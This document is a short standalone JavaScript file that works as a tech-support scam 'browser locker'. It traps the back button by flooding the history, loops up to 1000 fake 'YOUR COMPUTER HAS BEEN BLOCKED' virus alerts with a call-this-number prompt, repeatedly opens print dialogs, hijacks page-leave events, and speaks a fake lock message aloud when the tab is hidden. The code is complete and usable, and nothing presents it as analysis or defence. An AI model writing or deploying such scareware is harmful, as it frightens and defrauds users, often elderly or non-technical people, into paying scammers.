(function () {
  var n = 0;
  for (var i = 0; i < 60; i++) history.pushState({ i: i }, "", location.pathname + "?s=" + i);
  window.addEventListener("popstate", function () {
    history.pushState(null, "", location.href);
    ask();
  });
  function ask() {
    while (n < 1000) {
      n++;
      alert("** YOUR COMPUTER HAS BEEN BLOCKED **\n\nError: Virus - Trojan Backdoor Hijack #365838d7f8a4fa5\n\nPlease call us immediately at: 000-000-0000\nDo not ignore this critical alert. If you close this page, your computer access will be disabled.");
      if (n % 5 === 0) print();
    }
  }
  window.onbeforeunload = function (e) {
    setTimeout(ask, 10);
    e.returnValue = "Are you sure?";
    return e.returnValue;
  };
  document.addEventListener("visibilitychange", function () {
    if (document.hidden) {
      var u = new SpeechSynthesisUtterance("Important security message. Your computer has been locked up.");
      speechSynthesis.speak(u);
    }
  });
  setTimeout(ask, 1500);
})();
